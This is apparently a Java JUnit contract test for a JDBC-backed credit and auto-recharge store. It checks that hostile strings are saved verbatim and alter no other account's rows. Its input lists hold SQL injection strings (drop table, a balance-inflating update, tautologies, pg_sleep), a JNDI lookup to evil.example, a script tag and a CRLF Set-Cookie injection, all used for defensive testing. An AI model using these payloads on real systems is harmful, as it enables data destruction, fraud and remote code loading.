package io.autorecharge.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.tuple;

import com.zaxxer.hikari.HikariDataSource;
import io.autorecharge.account.Account;
import io.autorecharge.account.CardStop;
import io.autorecharge.account.Consent;
import io.autorecharge.account.ConsentRecord;
import io.autorecharge.account.PaymentMethod;
import io.autorecharge.account.Settings;
import io.autorecharge.credit.AccountId;
import io.autorecharge.credit.Category;
import io.autorecharge.credit.Credits;
import io.autorecharge.credit.Debit;
import io.autorecharge.credit.EntryType;
import io.autorecharge.credit.Grant;
import io.autorecharge.credit.LedgerEntry;
import io.autorecharge.credit.Money;
import io.autorecharge.event.AutoRechargeEvent;
import io.autorecharge.event.EventType;
import io.autorecharge.gateway.AttemptId;
import io.autorecharge.gateway.CheckoutId;
import io.autorecharge.gateway.RechargeId;
import io.autorecharge.gateway.Reversal;
import io.autorecharge.store.AccountTransaction;
import io.autorecharge.store.Attempt;
import io.autorecharge.store.AttemptProgress;
import io.autorecharge.store.AttemptState;
import io.autorecharge.store.AttemptTerms;
import io.autorecharge.store.Checkout;
import io.autorecharge.store.CheckoutOffer;
import io.autorecharge.store.CheckoutProgress;
import io.autorecharge.store.CheckoutState;
import io.autorecharge.store.OwedEntries;
import io.autorecharge.store.Posting;
import io.autorecharge.store.Recharge;
import io.autorecharge.store.RechargeState;
import io.autorecharge.store.Trigger;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every text that the library takes is a value and nothing else: it is read as it was written, and no other row changes.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class HostileTextContract {
    private static final Instant NOW = Instant.parse("2026-11-02T10:00:00Z");
    private static final AccountId VICTIM = AccountId.of("victim");
    private static final CardStop STOP = new CardStop(CardStop.Reason.FRAUD_WARNING, NOW);

    private HikariDataSource pool;
    private JdbcStore store;

    abstract DataSource newDatabase();

    @BeforeAll
    void open() {
        pool = DatabaseContract.pool(newDatabase(), true);
        Migrator.of(pool).migrate();
        store = JdbcStore.of(pool);
    }

    @AfterAll
    void close() {
        if (pool != null) {
            pool.close();
        }
    }

    @BeforeEach
    void onlyTheVictim() throws SQLException {
        try (Connection connection = pool.getConnection();
                Statement statement = connection.createStatement()) {
            DatabaseContract.empty(statement);
        }
        everywhere(VICTIM, "victims");
    }

    static Stream<String> texts() {
        return Stream.of(
                "'; drop table credit_transactions; --",
                "x'; update credit_accounts set credits = 1000000; --",
                "' or '1'='1",
                "\" or \"\"=\"",
                "\\' or 1=1 #",
                "x\\",
                "') on conflict do nothing; --",
                "1; select pg_sleep(30)",
                "%",
                "_ictim",
                "vic%",
                "?",
                "$1",
                ":account",
                "{fn user()}",
                "{accounts}",
                "{pg: x}",
                "/* */",
                "-- x",
                "`",
                "null",
                "NULL",
                "0",
                "VICTIM",
                "víctim",
                "victim\u200b",
                "${jndi:ldap://evil.example/x}",
                "{}",
                "<script>alert(1)</script>",
                "\u202evictim",
                "caf\u00e9",
                "cafe\u0301",
                "\uD83D\uDCB3",
                "ſtraße İı",
                "x".repeat(200));
    }

    @ParameterizedTest
    @MethodSource("texts")
    void a_text_is_read_as_it_was_written_and_changes_no_other_row(String text) throws SQLException {
        List<String> before = rowsOf("victim");

        everywhere(AccountId.of(text), text);

        Account account = store.find(AccountId.of(text)).orElseThrow();
        assertThat(account.id().value()).isEqualTo(text);
        assertThat(account.customerId()).isEqualTo(text);
        assertThat(account.method()).isEqualTo(new PaymentMethod(text, text, text, "4242", text));
        assertThat(account.state().consent()).isEqualTo(new Consent(text, NOW));
        List<LedgerEntry> entries = store.entries(account.id(), Long.MAX_VALUE, 10);
        assertThat(entries).hasSize(3);
        assertThat(entries).extracting(LedgerEntry::description).containsOnly(text);
        assertThat(entries).extracting(LedgerEntry::reference).contains(text + "+", text + "-");
        assertThat(store.recharges(account.id(), 5).get(0).attempt().description())
                .isEqualTo(text);
        assertThat(store.recharges(account.id(), 5).get(0).attempt().providerReference())
                .isEqualTo(text);
        assertThat(store.isHandled("evt " + text)).isTrue();
        store.inTransaction(account.id(), tx -> {
            assertThat(tx.checkout(new CheckoutId(text)).orElseThrow().sessionId())
                    .isEqualTo(text);
            assertThat(tx.reversalsOf(text)).extracting(Reversal::id).containsExactly(text);
            assertThat(tx.posted(text)).isPresent();
            assertThat(tx.cardUse(text, NOW).stop()).isEqualTo(STOP);
            assertThat(tx.owed())
                    .extracting(OwedEntries::providerReference, OwedEntries::problem)
                    .containsExactly(tuple(text, text));
            return true;
        });
        assertThat(store.methods(account.id()).backups())
                .extracting(it -> it.method().id())
                .containsExactly(text + "2");
        assertThat(store.consents(account.id())).containsExactly(agreement(account.id(), text));
        assertThat(rowsOf("victim")).isEqualTo(before);
        assertThat(rowsOf(text)).hasSameSizeAs(before);
    }

    @Test
    void all_of_them_together_are_accounts_of_their_own() {
        texts().forEach(text -> everywhere(AccountId.of(text), text));

        texts().forEach(text ->
                assertThat(store.balance(AccountId.of(text))).as(text).isEqualTo(Credits.of(13)));
        assertThat(store.find(AccountId.of("Victim"))).isEmpty();
        assertThat(Verification.of(pool).verify(NOW).violations())
                .extracting(Violation::rule)
                .doesNotContain(
                        Invariant.LEDGER_ADDS_UP,
                        Invariant.LEDGER_HAS_NO_GAPS,
                        Invariant.LEDGER_IS_A_CHAIN,
                        Invariant.ONE_RECHARGE_IS_OPEN,
                        Invariant.RECHARGES_AGREE_WITH_ATTEMPTS);
    }

    static Stream<String> refused() {
        return Stream.of(
                "a\0b",
                "a\nb",
                "a\r\nSet-Cookie: x",
                "a\tb",
                "a\u0085b",
                "a\u2028b",
                "\uD83D",
                " a",
                "a\u00a0 ",
                "",
                "   ",
                "x".repeat(256),
                "x".repeat(1 << 20));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void what_no_database_keeps_alike_is_refused_before_any_is_asked(String text) throws SQLException {
        List<String> before = rowsOf("victim");
        List<Consumer<String>> doors = List.of(
                AccountId::of,
                RechargeId::new,
                AttemptId::new,
                CheckoutId::new,
                it -> new PaymentMethod(it, "pm_1", null, null, null),
                it -> new PaymentMethod("cus_1", it, null, null, null),
                it -> new Reversal(it, Reversal.Kind.REFUND, usd(1), usd(0)),
                it -> Debit.of(VICTIM, Credits.of(1), it, null),
                it -> Debit.of(VICTIM, Credits.of(1), "x", it),
                it -> new Grant(VICTIM, Credits.of(1), Category.PAID, it, "x"),
                it -> new Grant(VICTIM, Credits.of(1), Category.PAID, "x", it),
                it -> AccountsTable.of(it, "id", IdType.TEXT, "credits", BalanceType.INTEGER),
                it -> AccountsTable.of("users", it, IdType.TEXT, "credits", BalanceType.INTEGER),
                it -> AccountsTable.of("users", "id", IdType.TEXT, it, BalanceType.INTEGER));

        for (Consumer<String> door : doors) {
            assertThatIllegalArgumentException()
                    .isThrownBy(() -> door.accept(text))
                    .satisfies(refusal -> assertThat(refusal.getMessage())
                            .hasSizeLessThan(300)
                            .doesNotContain("\n", "\r", "\0"));
        }
        assertThat(rowsOf("victim")).isEqualTo(before);
    }

    /** The text as everything that takes one. */
    private void everywhere(AccountId account, String text) {
        store.grant(new Grant(account, Credits.of(10), Category.PROMOTIONAL, text + "+", text), NOW);
        store.debit(Debit.of(account, Credits.of(2), text + "-", text), false, NOW);
        store.inTransaction(account, tx -> {
            tx.save(new Settings(true, 100, Credits.of(10)));
            tx.saveCustomer(text);
            tx.savePaymentMethod(new PaymentMethod(text, text, text, "4242", text));
            tx.save(tx.methods().adding(new PaymentMethod(text, text + "2", text, "4444", text + "2")));
            tx.save(tx.account().state().withConsent(new Consent(text, NOW)));
            tx.save(agreement(account, text));
            tx.post(List.of(new Posting(EntryType.PURCHASE, Category.PAID, Credits.of(5), text, text, null)), NOW);
            charge(tx, account, text);
            tx.stopCard(text, STOP);
            tx.save(new OwedEntries(text, usd(900), null, 0, null, Credits.ZERO, Credits.ZERO, NOW, 1, NOW, text));
            tx.save(new Checkout(
                            new CheckoutOffer(
                                    account,
                                    new CheckoutId(text),
                                    100,
                                    usd(900),
                                    true,
                                    new Consent(text, NOW),
                                    NOW,
                                    null,
                                    null),
                            new CheckoutProgress(null, CheckoutState.OPEN, NOW.plusSeconds(60), 0, null))
                    .at(text));
            tx.save(text, new Reversal(text, Reversal.Kind.REFUND, usd(2), usd(1)));
            tx.publish(AutoRechargeEvent.of(EventType.ENABLED, account, text, NOW)
                    .about(text)
                    .because(text));
            return true;
        });
        store.handled("evt " + text, "type", NOW);
        store.delivered(List.of(text), NOW);
    }

    private static ConsentRecord agreement(AccountId account, String text) {
        return new ConsentRecord(
                account,
                1,
                ConsentRecord.Kind.REVOKED,
                text,
                null,
                null,
                null,
                null,
                List.of(text, text + "2"),
                Consent.Source.HOST,
                text,
                NOW);
    }

    private static void charge(AccountTransaction tx, AccountId account, String text) {
        RechargeId id = new RechargeId(text);
        Recharge recharge = new Recharge(
                account,
                id,
                Trigger.BALANCE,
                RechargeState.OPEN,
                100,
                Credits.of(100),
                Credits.ZERO,
                usd(900),
                Credits.of(8),
                NOW,
                null);
        Attempt attempt = new Attempt(
                new AttemptTerms(account, id, new AttemptId(text), 1, text, text, text, usd(900), text, null),
                new AttemptProgress(AttemptState.OPEN, 1, 0, 0, true, NOW, NOW, NOW.plusSeconds(60), null, null, null));
        assertThat(tx.open(recharge, attempt)).isTrue();
        tx.save(attempt.waiting(true, NOW.plusSeconds(60), text, text));
    }

    /** Every row that names the account, in every table. */
    private List<String> rowsOf(String account) throws SQLException {
        List<String> rows = new ArrayList<>();
        try (Connection connection = pool.getConnection()) {
            for (String table : DatabaseContract.TABLES) {
                String key = switch (table) {
                    case "credit_accounts" -> "id";
                    case "credit_transactions" -> "user_id";
                    case "auto_recharge_cards" -> "fingerprint";
                    case "auto_recharge_webhook_events", "auto_recharge_installation", "auto_recharge_first_prices" ->
                        null;
                    default -> "account_id";
                };
                if (key == null) {
                    continue;
                }
                try (var query = connection.prepareStatement("select * from " + table + " where " + key + " = ?")) {
                    query.setString(1, key.equals("fingerprint") && account.equals("victim") ? "victims" : account);
                    try (ResultSet found = query.executeQuery()) {
                        while (found.next()) {
                            StringBuilder row = new StringBuilder(table);
                            for (int i = 1; i <= found.getMetaData().getColumnCount(); i++) {
                                row.append('|').append(found.getString(i));
                            }
                            rows.add(row.toString());
                        }
                    }
                }
            }
        }
        return rows;
    }

    private static Money usd(long cents) {
        return Money.ofMinor(cents, "USD");
    }
}
